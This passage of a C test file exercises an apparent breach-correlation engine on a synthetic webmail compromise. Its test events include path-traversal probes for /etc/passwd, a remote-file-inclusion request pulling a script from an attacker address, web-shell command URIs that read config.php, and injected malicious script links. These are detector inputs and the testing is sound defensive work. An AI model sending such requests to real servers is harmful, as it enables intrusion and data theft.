/* test_engine.c - the correlation engine on synthetic events: each detector
 * with positive and negative cases, windows, exposure categories, and the
 * independence of the result from how events were split across aggregates. */
#include "config.h"
#include "tap.h"
#include "src/engine/engine.h"
#include "src/engine/detect.h"
#include "src/engine/agg.h"
#include "src/core/event.h"
#include "src/core/addrscan.h"

#include <stdlib.h>

static struct bs_agg *A;          /* where emit() sends */
static uint64_t ref_counter;

static bs_ip IP(const char *s) { bs_ip ip; bs_ip_parse(s, strlen(s), &ip); return ip; }
static bs_str S(const char *s) { return bs_str_make(s, strlen(s)); }
static bs_time T(int day, int h, int m, int s) { return bs_time_make(2007, 5, day, h, m, s, 0); }

static void base(struct bs_event *e, enum bs_event_type t, bs_time ts, const char *src, const char *dst)
{
	bs_event_init(e, t);
	e->ts = ts;
	e->origin.input = 0;
	e->origin.ref = ++ref_counter;
	e->origin.from_capture = true;
	if (src) e->src = IP(src);
	if (dst) e->dst = IP(dst);
}

static void http(bs_time ts, const char *client, const char *server, const char *method, const char *uri,
                 int status, const char *login_user, const char *set_cookie, const char *cookie,
                 const char *ref, bool cmd_output, uint64_t txn)
{
	struct bs_event e;
	base(&e, BS_EV_HTTP, ts, client, server);
	e.u.http.phase = BS_HTTP_REQUEST;
	e.u.http.txn_id = txn;
	e.u.http.method = S(method);
	e.u.http.uri = S(uri);
	bs_agg_sink(A, &e);
	e.u.http.phase = BS_HTTP_COMPLETE;
	e.u.http.status = status;
	e.u.http.resp_content_type = S("text/html");
	if (login_user) e.u.http.login_user = S(login_user);
	if (set_cookie) e.u.http.set_cookie = S(set_cookie);
	if (cookie) e.u.http.cookie = S(cookie);
	if (ref) { e.u.http.refs[0] = S(ref); e.u.http.nrefs = 1; }
	e.u.http.cmd_output = cmd_output;
	bs_agg_sink(A, &e);
}

/* A request as an access log shows it: method, URI and status, no body. */
static void logged_http(bs_time ts, const char *client, const char *server, const char *method, const char *uri,
                        int status, uint64_t txn)
{
	struct bs_event e;
	base(&e, BS_EV_HTTP, ts, client, server);
	e.origin.from_capture = false;
	e.u.http.phase = BS_HTTP_COMPLETE;
	e.u.http.txn_id = txn;
	e.u.http.from_access_log = true;
	e.u.http.method = S(method);
	e.u.http.uri = S(uri);
	e.u.http.status = status;
	bs_agg_sink(A, &e);
}

static void addr(bs_time ts, const char *src, const char *dst, enum bs_addr_ctx ctx, uint64_t ref, const char *a, bool to_client)
{
	struct bs_event e;
	base(&e, BS_EV_ADDR, ts, src, dst);
	e.u.addr.ctx = ctx;
	e.u.addr.ref = ref;
	e.u.addr.address = S(a);
	e.u.addr.to_client = to_client;
	bs_agg_sink(A, &e);
}

static void query(bs_time ts, const char *client, uint64_t qid, const char *sql, const char **addrs, size_t n, uint64_t rows)
{
	struct bs_event e;
	base(&e, BS_EV_DBQUERY, ts, client, "10.0.2.10");
	e.u.dbquery.query_id = qid;
	e.u.dbquery.sql = S(sql);
	e.u.dbquery.db_user = S("atmail");
	bs_agg_sink(A, &e);
	for (size_t i = 0; i < n; i++)
		addr(ts, client, "10.0.2.10", BS_ADDR_DB_RESULT, qid, addrs[i], true);
	base(&e, BS_EV_DBRESULT, ts + BS_USEC, client, "10.0.2.10");
	e.u.dbresult.query_id = qid;
	e.u.dbresult.rows = rows;
	bs_agg_sink(A, &e);
}

static void imap_login(bs_time ts, const char *server, const char *user)
{
	struct bs_event e;
	base(&e, BS_EV_AUTH, ts, server, "10.0.2.20");
	e.u.auth.proto = BS_AUTH_IMAP;
	e.u.auth.user = S(user);
	e.u.auth.success = 1;
	bs_agg_sink(A, &e);
}

static void mail(bs_time ts, const char *client, const char *sasl, const char *from, const char *to, uint64_t size, long uid, const char *host)
{
	struct bs_event e;
	base(&e, BS_EV_MAIL, ts, client, NULL);
	bs_str rc[1] = { S(to) };
	bs_str st[1] = { S("sent") };
	e.u.mail.sender = S(from);
	e.u.mail.rcpts = rc;
	e.u.mail.rcpt_status = st;
	e.u.mail.nrcpt = 1;
	e.u.mail.size = size;
	e.u.mail.local_uid = uid;
	if (sasl) e.u.mail.sasl_user = S(sasl);
	if (host) e.host = S(host);
	e.origin.from_capture = false;
	bs_agg_sink(A, &e);
}

static void flow(bs_time t0, bs_time t1, const char *src, const char *dst, uint16_t dport, uint64_t out, uint64_t in)
{
	struct bs_event e;
	base(&e, BS_EV_FLOW, t0, src, dst);
	e.sport = 40000;
	e.dport = dport;
	e.u.flow.l4proto = 6;
	e.u.flow.first = t0;
	e.u.flow.last = t1;
	e.u.flow.bytes_fwd = out;
	e.u.flow.bytes_rev = in;
	e.u.flow.initiator_known = true;
	bs_agg_sink(A, &e);
}

/* A DNS answer: NAME has address ANSWER. */
static void dns_answer(bs_time ts, const char *name, const char *answer)
{
	struct bs_event e;
	base(&e, BS_EV_DNS, ts, "10.0.2.30", "10.0.2.53");
	e.u.dns.qname = S(name);
	e.u.dns.qtype = 1;
	e.u.dns.answers[0] = IP(answer);
	e.u.dns.nanswers = 1;
	e.u.dns.rcode = 0;
	bs_agg_sink(A, &e);
}

static const char *SERVERS[3] = { "10.0.1.11", "10.0.1.12", "10.0.1.13" };
static const char *USERS[6] = { "alice@example.net", "bob@example.net", "carol@example.net",
                                "dave@example.net", "erin@example.net", "frank@example.net" };

/* The whole scenario; part selects which half of the events to emit
 * (0 = all, 1 = odd refs, 2 = even refs) to test merging. */
static void scenario(int part)
{
	(void)part;
	uint64_t txn = 1;
	/* normal use: every user logs in on every server, day 1..10 */
	for (int d = 1; d <= 10; d++)
		for (int s = 0; s < 3; s++)
			for (int u = 0; u < 6; u++) {
				bs_time t = T(d, 9 + u, 10 * s, 0);
				char cookie[64];
				snprintf(cookie, sizeof cookie, "sid=%d%d%d", d, s, u);
				const char *client = "198.18.0.1";
				http(t, client, SERVERS[s], "GET", "/mail/index.php", 200, NULL, NULL, NULL, "/mail/js/a.js", false, txn++);
				http(t + BS_USEC, client, SERVERS[s], "POST", "/mail/login.php", 302, USERS[u], cookie, NULL, NULL, false, txn++);
				imap_login(t + 2 * BS_USEC, SERVERS[s], USERS[u]);
				/* pages, with the fleet-wide deployment from day 5 and the tampering on srv 2 from day 6 to 8 */
				const char *ref = d >= 5 ? "https://cdn.widgets.example.com/analytics.js" : NULL;
				if (s == 2 && d >= 6 && d <= 8)
					ref = "http://update.flash-player.example.cn/install.exe";
				http(t + 3 * BS_USEC, client, SERVERS[s], "GET", "/mail/showmail.php?Folder=Inbox", 200, NULL, NULL, cookie, ref, false, txn++);
				/* the app's own per-user query, with one address book entry */
				char sql[128];
				snprintf(sql, sizeof sql, "SELECT Account, Email FROM Abook WHERE Account='%s'", USERS[u]);
				const char *entry[1] = { "friend@example.org" };
				query(t + 4 * BS_USEC, SERVERS[s], txn++, sql, u == 0 ? entry : NULL, u == 0 ? 1 : 0, u == 0 ? 1 : 0);
				/* webmail submission through the relay */
				if (u == 1)
					mail(t + 5 * BS_USEC, SERVERS[s], USERS[u], USERS[u], "partner@example.com", 2000, -1, "relay1");
			}
	/* incoming mail to alice from an outside sender (received_from) */
	mail(T(3, 8, 0, 0), "198.51.100.9", NULL, "newsletter@example.org", "alice@example.net", 5000, -1, "mx1");
	/* a huge per-user address book: not a bulk read */
	const char *many[3] = { "x1@example.org", "x2@example.org", "x3@example.org" };
	query(T(2, 10, 0, 0), SERVERS[0], 9000, "SELECT Account, Email FROM Abook WHERE Account='bigbook@example.net'", many, 3, 2000);
	/* brute force against srv 1 (decoy) */
	for (int i = 0; i < 80; i++)
		http(T(4, 3, 0, i), "198.51.100.23", SERVERS[1], "POST", "/mail/login.php", 200, "root@example.net", NULL, NULL, NULL, false, txn++);
	/* admin backup: large internal transfer from srv 0 (decoy) */
	flow(T(4, 2, 0, 0), T(4, 2, 30, 0), SERVERS[0], "10.0.2.50", 873, 50000000, 1000);
	/* scanners: failed exploit attempts everywhere */
	for (int s = 0; s < 3; s++)
		http(T(2, 1, 0, s), "192.0.2.99", SERVERS[s], "GET", "/mail/index.php?lang=../../etc/passwd", 404, NULL, NULL, NULL, NULL, false, txn++);
	/* a scanner asks every server for "/": srv 0 and 1 answer before the
	 * widget's deployment, srv 2 after it, so only its copy has the widget.
	 * The widget is on every server's other pages: not tampering (it once
	 * stretched srv 2's tamper window to the deployment) */
	for (int s = 0; s < 3; s++)
		http(T(s == 2 ? 9 : 2, 2, 0, s), "192.0.2.98", SERVERS[s], "GET", "/", 200, NULL, NULL, NULL,
		     s == 2 ? "https://cdn.widgets.example.com/analytics.js" : NULL, false, txn++);
	/* the attack on srv 2 (10.0.1.13) */
	http(T(3, 12, 0, 0), "203.0.113.66", SERVERS[2], "GET", "/phpmyadmin/index.php?x=../../etc/passwd", 404, NULL, NULL, NULL, NULL, false, txn++);
	http(T(4, 17, 31, 2), "203.0.113.66", SERVERS[2], "GET", "/mail/parse.php?file=http://203.0.113.66/x.txt?&cmd=id", 200, NULL, NULL, NULL, NULL, true, txn++);
	uint64_t shell_txn = txn++;
	http(T(4, 17, 40, 0), "203.0.113.66", SERVERS[2], "GET", "/mail/tmp/.cache.php?cmd=id", 200, NULL, NULL, NULL, NULL, true, shell_txn);
	/* an address in the web shell's output: exfiltrated */
	uint64_t dump_txn = txn++;
	{
		struct bs_event e;
		base(&e, BS_EV_HTTP, T(5, 10, 0, 0), "198.51.100.77", SERVERS[2]);
		e.u.http.phase = BS_HTTP_REQUEST;
		e.u.http.txn_id = dump_txn;
		e.u.http.method = S("GET");
		e.u.http.uri = S("/mail/tmp/.cache.php?cmd=cat%20config.php");
		bs_agg_sink(A, &e);
		addr(T(5, 10, 0, 0), "198.51.100.77", SERVERS[2], BS_ADDR_HTTP_RESP_BODY, dump_txn, "admin@example.net", true);
		e.u.http.phase = BS_HTTP_COMPLETE;
		e.u.http.status = 200;
		e.u.http.cmd_output = true;
		bs_agg_sink(A, &e);
	}
	const char *dump[4] = { "alice@example.net", "old.user@legacy.example", "friend@example.org", "ghost@example.net" };
	query(T(5, 11, 0, 0), SERVERS[2], 7001, "SELECT Account, Email FROM Abook_old", dump, 4, 5000);
	query(T(7, 11, 0, 0), SERVERS[2], 7002, "SELECT Account FROM Users", dump, 1, 3000);
	/* exfiltration: a large upload to an outside host, with addresses in it */
	flow(T(7, 12, 0, 0), T(7, 12, 5, 0), SERVERS[2], "192.0.2.200", 20, 900000, 500);
	{
		struct bs_event e;
		base(&e, BS_EV_ADDR, T(7, 12, 1, 0), SERVERS[2], "192.0.2.200");
		e.sport = 40000;
		e.dport = 20;
		e.u.addr.ctx = BS_ADDR_PAYLOAD;
		e.u.addr.address = S("payload.only@example.com");
		bs_agg_sink(A, &e);
		/* flagged normal by the scanner: interned as it is */
		e.u.addr.address = S("flagged.payload@example.com");
		e.u.addr.normal = true;
		bs_agg_sink(A, &e);
	}
	/* and by mail, locally submitted by www-data */
	mail(T(7, 13, 0, 0), "127.0.0.1", NULL, "www-data@wm3.example.net", "drop@mailbox.example", 400000, 33, "wm3");
	/* after the window: a login on srv 2 must not be credentials_at_risk (day 9 > window end day 7) */
}

static const struct bs_exposed *find(const struct bs_results *r, const char *a)
{
	for (size_t i = 0; i < r->nexposed; i++)
		if (strcmp(r->exposed[i].address, a) == 0)
			return &r->exposed[i];
	return NULL;
}

static bool cat(const struct bs_exposed *e, enum bs_category c) { return e && (e->categories & (1u << c)); }

static struct bs_results *correlate(struct bs_agg *a, struct bs_engine_config *cfg)
{
	struct bs_input_row *rows = calloc(1, sizeof *rows);
	rows[0].source = strdup("synthetic");
	rows[0].format = strdup("test");
	return bs_correlate(a, cfg, rows, 1);
}

/* Discovery with DNS answers as the only serving evidence: 10.0.5.1 is
 * webmail.example.net (the users' domain), 10.0.5.2 a name elsewhere
 * (cdn.other.example), 10.0.5.3 none; three users log in through each. */
static void test_dns_serving(const struct bs_engine_config *base_cfg)
{
	struct bs_engine_config cfg = *base_cfg;
	cfg.fleet = NULL;
	cfg.nfleet = 0;
	A = bs_agg_new();
	dns_answer(T(1, 8, 0, 0), "webmail.example.net.", "10.0.5.1");
	dns_answer(T(1, 8, 0, 1), "cdn.other.example", "10.0.5.2");
	const char *hosts[3] = { "10.0.5.1", "10.0.5.2", "10.0.5.3" };
	for (int h = 0; h < 3; h++)
		for (int u = 0; u < 3; u++)
			imap_login(T(1, 9, h, u), hosts[h], USERS[u]);
	struct bs_results *r = correlate(A, &cfg);
	is_int(r->nservers, 1, "DNS: one server discovered");
	if (r->nservers == 1)
		is_str(r->servers[0].name, "10.0.5.1", "DNS: the address a name of the users' domain resolves to");
	ok(strstr(r->fleet_origin, "10.0.5.1: 3 users, its address in DNS answers") != NULL,
	   "DNS: the summary says why");
	bs_results_free(r);
	bs_agg_free(A);
}

/* IMAP logins through a webmail host come from its own address (rip=).
 * Its users' mistyped passwords are no brute force while the hour's
 * successful logins through it outnumber them (wm1: 60 failures among 100
 * logins); a guessing run through it is (wm2: 60 failures, 10 logins).
 * Before, a million-user fleet had every webmail host flagged. */
static void test_fleet_sourced_failures(const struct bs_engine_config *cfg)
{
	A = bs_agg_new();
	const char *srv[2] = { "10.0.1.11", "10.0.1.12" };
	for (int s = 0; s < 2; s++) {
		int nok = s == 0 ? 100 : 10;
		for (int i = 0; i < nok; i++)
			imap_login(T(2, 10, i % 60, i / 60), srv[s], USERS[i % 6]);
		for (int i = 0; i < 60; i++) {
			struct bs_event e;
			base(&e, BS_EV_AUTH, T(2, 10, i % 60, 30), srv[s], "10.0.2.20");
			e.u.auth.proto = BS_AUTH_IMAP;
			e.u.auth.user = S(USERS[i % 6]);
			e.u.auth.success = 0;
			bs_agg_sink(A, &e);
		}
	}
	struct bs_results *r = correlate(A, (struct bs_engine_config *)cfg);
	ok(!(r->servers[0].signals & (1u << BS_SIG_AUTH_ANOMALY)),
	   "failures from a webmail host below its hour's successful logins: no brute force");
	ok(r->servers[1].signals & (1u << BS_SIG_AUTH_ANOMALY),
	   "failures from a webmail host above its hour's successful logins: a brute force");
	bs_results_free(r);
	bs_agg_free(A);
}

/* A host named by address is interned as "ip:" and the address as
 * bs_ip_format writes it (IPv4 is formatted by hand in the aggregate): every
 * octet value in every position, and IPv6 and mapped forms. */
static void test_host_ip_text(void)
{
	struct bs_agg *a = bs_agg_new();
	size_t bad = 0;
	for (unsigned v = 0; v < 256 * 4; v++) {
		bs_ip ip = { .family = 4 };
		for (int k = 0; k < 4; k++)
			ip.a[k] = (uint8_t)((v * (k + 7) + k * 61) & 0xff);
		ip.a[v / 256] = (uint8_t)(v & 0xff);
		char want[BS_IP_STRLEN + 4] = "ip:";
		bs_ip_format(&ip, want + 3, sizeof want - 3);
		if (strcmp(bs_strtab_get(&a->str, bs_agg_host_ip(a, &ip)), want) != 0)
			bad++;
	}
	static const char *const v6[] = { "2001:db8::1", "::1", "fe80::1:2:3:4", "::ffff:10.0.0.1", "1:2:3:4:5:6:7:8" };
	for (size_t i = 0; i < sizeof v6 / sizeof *v6; i++) {
		bs_ip ip = IP(v6[i]);
		char want[BS_IP_STRLEN + 4] = "ip:";
		bs_ip_format(&ip, want + 3, sizeof want - 3);
		if (strcmp(bs_strtab_get(&a->str, bs_agg_host_ip(a, &ip)), want) != 0)
			bad++;
	}
	is_int(bad, 0, "a host address is interned as bs_ip_format writes it");
	bs_agg_free(a);
}

/* addr_id's lookaside of raw addresses gives what normalizing gives: ugly
 * and non-addresses, case variants, lengths about the lookaside's limit,
 * each sent four times (after the first from the lookaside, when it fits), in
 * two orders. */
static void test_addr_lookaside(void)
{
	static const char *const raws[] = {
		"Alice@Example.NET", "alice@example.net", "<alice@example.net>", "alice", "", "@", "a@b",
		"not an address", "\"quoted name\"@example.net", "x@y..z", "bob@example.net ",
		"xabcdefghijklmnopqrstuvwxyz.abcdefghijklmnopqrstuvw@example.net",    /* 63 bytes */
		"xabcdefghijklmnopqrstuvwxyz.abcdefghijklmnopqrstuvwx@example.net",   /* 64 */
		"xabcdefghijklmnopqrstuvwxyz.abcdefghijklmnopqrstuvwxy@example.net",  /* 65: past the lookaside */
		"XABCDEFGHIJKLMNOPQRSTUVWXYZ.ABCDEFGHIJKLMNOPQRSTUVWXY@EXAMPLE.NET",  /* 65 */
	};
	size_t nraw = sizeof raws / sizeof *raws, bad = 0;
	A = bs_agg_new();
	for (int pass = 0; pass < 4; pass++)
		for (size_t k = 0; k < nraw; k++) {
			size_t i = pass & 1 ? nraw - 1 - k : k;
			mail(T(5, 10, 0, 0), "10.0.1.11", "user", "", raws[i], 100, -1, "mx1");
		}
	for (size_t i = 0; i < nraw; i++) {
		char want[BS_ADDR_MAX + 1];
		int n = bs_addr_normalize(raws[i], strlen(raws[i]), want);
		if (n <= 0)
			continue;
		uint32_t same = 0, id = bs_strtab_find(&A->str, want, (size_t)n), count = 0;
		for (size_t j = 0; j < nraw; j++) {
			char other[BS_ADDR_MAX + 1];
			int m = bs_addr_normalize(raws[j], strlen(raws[j]), other);
			same += m == n && memcmp(other, want, (size_t)n) == 0;
		}
		for (size_t r = 0; r < A->ev.n; r++)
			if (A->ev.v[r].addr == id && A->ev.v[r].kind == EK_SENT_TO)
				count += A->ev.v[r].count;
		if (id == UINT32_MAX || count != 4 * same)
			bad++;
	}
	is_int(bad, 0, "an address looked aside has the id normalizing gives it");
	bs_agg_free(A);
}

/* Ties between records of equal time are broken by the strings' text: two
 * workers meet the same strings in other orders, so their ids differ, and a
 * merge in either order must keep the same record (a -j difference else). */
static void test_fold_ties_by_text(void)
{
	static const char *const order[2][4] = { { "zed", "amy", "Mozilla/5", "curl/8" },
	                                         { "amy", "zed", "curl/8", "Mozilla/5" } };
	struct bs_agg *part[2];
	for (int w = 0; w < 2; w++) {
		part[w] = bs_agg_new();
		struct bs_agg *a = part[w];
		uint32_t id[4];
		for (int k = 0; k < 4; k++)
			id[k] = bs_strtab_intern(&a->str, order[w][k], strlen(order[w][k]));
		uint32_t pair = bs_strtab_intern(&a->str, "sid=1", 5);
		uint32_t host = bs_strtab_intern(&a->str, "wm1", 3);
		uint32_t ref = bs_strtab_intern(&a->str, "evil.example", 12);
		/* worker w saw the cookie with its first user, at the same second */
		struct bs_sessrec sr = { .pair = pair, .user = id[0], .host = host, .ts = 1000 };
		bs_agg_add_sess(a, &sr);
		/* and the referencing page first fetched, same second and client, with its first agent */
		struct bs_sessref rf = { .pair = pair, .host = host, .refhost = ref, .first = 2000, .last = 2000,
		                         .client = IP("198.51.100.7"), .ua = id[2] };
		bs_agg_add_sref(a, &rf);
	}
	char user[2][16], ua[2][16];
	for (int w = 0; w < 2; w++) {
		struct bs_agg *m = bs_agg_new();
		bs_agg_merge(m, part[w]);
		bs_agg_merge(m, part[1 - w]);
		const struct bs_sessrec *sr = bs_agg_find_sess(m, bs_strtab_find(&m->str, "sid=1", 5));
		snprintf(user[w], sizeof user[w], "%s", sr ? bs_strtab_get(&m->str, sr->user) : "(none)");
		snprintf(ua[w], sizeof ua[w], "%s", m->sref.n == 1 ? bs_strtab_get(&m->str, m->sref.v[0].ua) : "(none)");
		bs_agg_free(m);
	}
	is_str(user[0], "amy", "a cookie's login tie at one second: the user first by text");
	is_str(user[1], "amy", "the same user when merged the other way");
	is_str(ua[0], "Mozilla/5", "a reference's first fetch tie: the agent first by text");
	is_str(ua[1], "Mozilla/5", "the same agent when merged the other way");
	for (int w = 0; w < 2; w++)
		bs_agg_free(part[w]);
}

/* Logins by bare names: kept aside as names, counted, and given the one
 * domain by bs_agg_complete_logins, folded into the address's own logins;
 * a web session set at a bare login belongs to the address; what is no
 * name (spaces, an address that failed) stays out. */
static void test_bare_logins(void)
{
	for (int with_domain = 0; with_domain < 2; with_domain++) {
		A = bs_agg_new();
		imap_login(T(3, 9, 0, 0), "10.0.1.11", "Alice");
		imap_login(T(3, 9, 5, 0), "10.0.1.12", "EXAMPLE\\alice");  /* OWA's NetBIOS form */
		imap_login(T(3, 9, 9, 0), "10.0.1.11", "alice@example.net"); /* the address itself */
		imap_login(T(3, 9, 10, 0), "10.0.1.11", "bob");
		imap_login(T(3, 9, 11, 0), "10.0.1.11", "not a name");
		imap_login(T(3, 9, 12, 0), "10.0.1.11", "bad@");
		imap_login(T(3, 9, 13, 0), "10.0.1.11", "alice*admin");               /* Dovecot's master user */
		imap_login(T(3, 9, 14, 0), "10.0.1.11", "alice@example.net*admin");
		http(T(3, 10, 0, 0), "198.18.0.9", "10.0.1.13", "POST", "/login.php", 302, "carol", "sid=77", NULL, NULL,
		     false, 901);
		size_t n = bs_agg_complete_logins(A, with_domain ? "example.net" : NULL);
		is_int(n, 3, "bare logins (%s): three distinct names (alice, bob, carol)", with_domain ? "a domain" : "none");
		uint32_t alice = bs_strtab_find(&A->str, "alice@example.net", 17);
		uint32_t bob = bs_strtab_find(&A->str, "bob@example.net", 15);
		uint64_t alice_logins = 0, bob_logins = 0, others = 0;
		for (size_t i = 0; i < A->ev.n; i++) {
			const struct bs_evidence *e = &A->ev.v[i];
			if (e->kind != EK_LOGIN)
				continue;
			if (e->addr == alice)
				alice_logins += e->count;
			else if (e->addr == bob)
				bob_logins += e->count;
			else
				others++;
		}
		const struct bs_sessrec *se = bs_agg_find_sess(A, bs_strtab_find(&A->str, "sid=77", 6));
		const char *owner = se ? bs_strtab_get(&A->str, se->user) : "(none)";
		if (with_domain) {
			is_int(alice_logins, 5, "bare logins: Alice, EXAMPLE\\alice and master-user logins are alice@example.net's");
			is_int(bob_logins, 1, "bare logins: bob is bob@example.net");
			is_int(others, 1, "bare logins: and carol's web login; nothing else");
			is_str(owner, "carol@example.net", "bare logins: carol's web session is her address's");
		} else {
			is_int(alice_logins, 2, "no domain: only the address's own logins (one by a master user)");
			is_int(bob_logins + others, 0, "no domain: no bare name becomes an address");
			is_str(owner, "carol", "no domain: the session stays the name's (nobody's address)");
		}
		bs_agg_free(A);
	}
	/* the one domain of the logins by address, from three users on */
	A = bs_agg_new();
	char buf[64];
	imap_login(T(3, 9, 0, 0), "10.0.1.11", "alice@example.net");
	imap_login(T(3, 9, 1, 0), "10.0.1.12", "bob@example.net");
	imap_login(T(3, 9, 2, 0), "10.0.1.12", "bob@example.net");
	bool from_mail;
	ok(!bs_agg_login_domain(A, buf, sizeof buf, &from_mail), "two users by address: no domain inferred");
	imap_login(T(3, 9, 3, 0), "10.0.1.11", "carol@example.net");
	const char *d = bs_agg_login_domain(A, buf, sizeof buf, &from_mail);
	is_str(d ? d : "(none)", "example.net", "three users by address of one domain: that domain");
	ok(!from_mail, "... from the logins");
	imap_login(T(3, 9, 4, 0), "10.0.1.11", "dave@other.example");
	ok(!bs_agg_login_domain(A, buf, sizeof buf, &from_mail), "a second domain: none");
	bs_agg_free(A);
	/* no login by address: the domain of the mail the bare names receive */
	static const char *const names[4] = { "alice", "bob", "carol", "dave" };
	for (int with_mail = 0; with_mail < 3; with_mail++) {
		A = bs_agg_new();
		for (int u = 0; u < 4; u++) {
			imap_login(T(3, 9, u, 0), "10.0.1.11", names[u]);
			char rcpt[64];
			snprintf(rcpt, sizeof rcpt, "%s@%s", names[u], u < 3 ? "example.net" : "gmail.example");
			if (with_mail)
				mail(T(3, 10, u, 0), "198.51.100.9", NULL, "news@shop.example", rcpt, 2000, -1, "mx1");
		}
		if (with_mail == 2) /* two of the names also get mail at another domain */
			for (int u = 0; u < 2; u++) {
				char rcpt[64];
				snprintf(rcpt, sizeof rcpt, "%s@other.example", names[u]);
				mail(T(3, 12, u, 0), "198.51.100.9", NULL, "news@shop.example", rcpt, 2000, -1, "mx1");
			}
		d = bs_agg_login_domain(A, buf, sizeof buf, &from_mail);
		if (!with_mail)
			ok(!d && from_mail, "bare names and no mail to them: no domain");
		else if (with_mail == 1)
			ok(d && from_mail && strcmp(d, "example.net") == 0,
			   "bare names: the domain of three of them among the recipients (not one gmail address)");
		else
			ok(!d, "a second domain with two of the names: not twice as many, none");
		bs_agg_free(A);
	}
}

/* An upload from a fleet server to an outside host: its payload's
 * addresses (n), size, and the FTP transfer record. */
static void upload(bs_time ts, const char *from, const char *to, uint16_t sport, int n, const char *tag)
{
	struct bs_event e;
	bool back = tag[0] == '<'; /* the addresses come from the outside host */
	for (int i = 0; i < n; i++) {
		char addr[64];
		snprintf(addr, sizeof addr, "%s%d@example.net", tag + back, i);
		base(&e, BS_EV_ADDR, ts, from, to);
		e.sport = sport;
		e.dport = 50000;
		e.u.addr.ctx = BS_ADDR_PAYLOAD;
		e.u.addr.to_client = back;
		e.u.addr.address = S(addr);
		bs_agg_sink(A, &e);
	}
	base(&e, BS_EV_FILEXFER, ts, from, to);
	e.sport = sport;
	e.dport = 50000;
	e.u.xfer.proto = S("ftp");
	e.u.xfer.upload = true;
	e.u.xfer.filename = S("t.txt.gz");
	e.u.xfer.size = 30000; /* a compressed dump: far below exfil-min-bytes */
	bs_agg_sink(A, &e);
}

/* A small transfer that carries a dump's worth of addresses is
 * exfiltration (exfil-min-addrs), unless the destination routinely gets
 * such lists (the largest other transfer to it is the baseline). */
static void test_exfil_by_addresses(struct bs_engine_config *base_cfg)
{
	/* wm3 on a public address: what an outside host sends it is recorded
	 * too (to a private address it is not data leaving at all) */
	struct bs_fleet_entry fleet[3] = { { "wm1", IP("10.0.1.11"), "webmail" }, { "wm2", IP("10.0.1.12"), "webmail" },
	                                   { "wm3", IP("192.0.2.13"), "webmail" } };
	struct bs_engine_config cfg_public = *base_cfg, *cfg = &cfg_public;
	cfg_public.fleet = fleet;
	cfg_public.nfleet = 3;
	static const char *const srv[3] = { "10.0.1.11", "10.0.1.12", "192.0.2.13" };
	for (int routine = 0; routine < 3; routine++) {
		A = bs_agg_new();
		for (int d = 1; d <= 3; d++) /* every server has data */
			for (int s = 0; s < 3; s++)
				imap_login(T(d, 10, s, 0), srv[s], USERS[s]);
		if (routine) /* the nightly offsite list, from wm1, on other days */
			for (int d = 1; d <= 2; d++)
				upload(T(d, 2, 0, 0), "10.0.1.11", "198.51.100.30", (uint16_t)(41000 + d), 250, "n");
		upload(T(3, 3, 0, 0), "192.0.2.13", routine == 1 ? "198.51.100.30" : "203.0.113.66", 42000, 250,
		       routine == 2 ? "<d" : "d");
		struct bs_results *r = correlate(A, cfg);
		bool exfil = r->servers[2].signals & (1u << BS_SIG_EXFILTRATION);
		if (routine == 2)
			ok(!exfil, "250 addresses that the outside host sent back: no exfiltration");
		else if (routine)
			ok(!exfil, "a destination that routinely gets address lists: no exfiltration");
		else
			ok(exfil && r->servers[2].nattacker_ips == 1, "30 KB carrying 250 addresses to an outside host: exfiltration, "
			   "its destination an attacker address");
		bs_results_free(r);
		bs_agg_free(A);
	}
}

/* Three webmail servers (the other tests' fleet has db and backup hosts). */
static struct bs_fleet_entry FLEET3[3];
static const char *const SRV3[3] = { "10.0.1.11", "10.0.1.12", "10.0.1.13" };
static struct bs_engine_config three_servers(const struct bs_engine_config *base_cfg)
{
	static const char *const names[3] = { "wm1", "wm2", "wm3" };
	for (int s = 0; s < 3; s++)
		FLEET3[s] = (struct bs_fleet_entry){ (char *)names[s], IP(SRV3[s]), "webmail" };
	struct bs_engine_config cfg = *base_cfg;
	cfg.fleet = FLEET3;
	cfg.nfleet = 3;
	return cfg;
}

static void page_with_ref(bs_time ts, const char *client, const char *srv, const char *uri, const char *ref, bool link,
                          uint64_t txn);

/* Every server serves the same page without outside references to six
 * clients a day (so that each path is served by all three); into a fresh
 * aggregate A. Returns the next transaction id. */
static uint64_t plain_pages(int days, uint64_t txn)
{
	A = bs_agg_new();
	for (int d = 1; d <= days; d++)
		for (int s = 0; s < 3; s++)
			for (int c = 0; c < 6; c++) {
				char client[32];
				snprintf(client, sizeof client, "198.18.%d.%d", s, c + 1);
				bs_time t = T(d, 9 + c, s, 0);
				page_with_ref(t, client, SRV3[s], "/mail/showmail.php", NULL, false, txn++);
				page_with_ref(t + BS_USEC, client, SRV3[s], "/mail/reademail.php", NULL, false, txn++);
			}
	return txn;
}

/* A GET of uri by client from srv, in one phase. */
static void get_event(struct bs_event *e, enum bs_http_phase phase, bs_time ts, const char *client, const char *srv,
                      const char *uri, uint64_t txn)
{
	base(e, BS_EV_HTTP, ts, client, srv);
	e->u.http.phase = phase;
	e->u.http.txn_id = txn;
	e->u.http.method = S("GET");
	e->u.http.uri = S(uri);
}

/* A page served by srv from client with one reference; link: an <a href>. */
static void page_with_ref(bs_time ts, const char *client, const char *srv, const char *uri, const char *ref, bool link,
                          uint64_t txn)
{
	struct bs_event e;
	get_event(&e, BS_HTTP_COMPLETE, ts, client, srv, uri, txn);
	e.u.http.status = 200;
	e.u.http.resp_content_type = S("text/html");
	if (ref) {
		e.u.http.refs[0] = S(ref);
		e.u.http.nrefs = 1;
		e.u.http.ref_weak = link ? 1 : 0;
	}
	bs_agg_sink(A, &e);
}

/* Links (<a href>) the other servers' copies lack are tampering only when
 * several clients were served them: one reader's message link is not; a
 * fake pop-up's link on every page is; a script is with one client. The
 * clients' set is the same whatever the order of merging. */
static void test_tamper_links(struct bs_engine_config *base_cfg)
{
	struct bs_engine_config cfg = three_servers(base_cfg);
	uint64_t txn = plain_pages(3, 1);
	/* wm2: a fake pop-up on every page, to every visitor */
	for (int d = 2; d <= 3; d++)
		for (int c = 0; c < 6; c++) {
			char client[32];
			snprintf(client, sizeof client, "198.18.1.%d", c + 1);
			page_with_ref(T(d, 9 + c, 1, 0) + 2 * BS_USEC, client, SRV3[1], "/mail/showmail.php",
			              "http://upd.example.cn/install.exe", true, txn++);
		}
	/* wm1: one reader's message with a link, read five times */
	for (int i = 0; i < 5; i++)
		page_with_ref(T(2, 12, i, 0), "198.18.0.1", SRV3[0], "/mail/reademail.php", "http://files.reader.example.org/a.zip",
		              true, txn++);
	/* wm3: a script on one page, to one client */
	page_with_ref(T(3, 12, 0, 0), "198.18.2.1", SRV3[2], "/mail/showmail.php", "http://evil.example.cn/x.js", false, txn++);
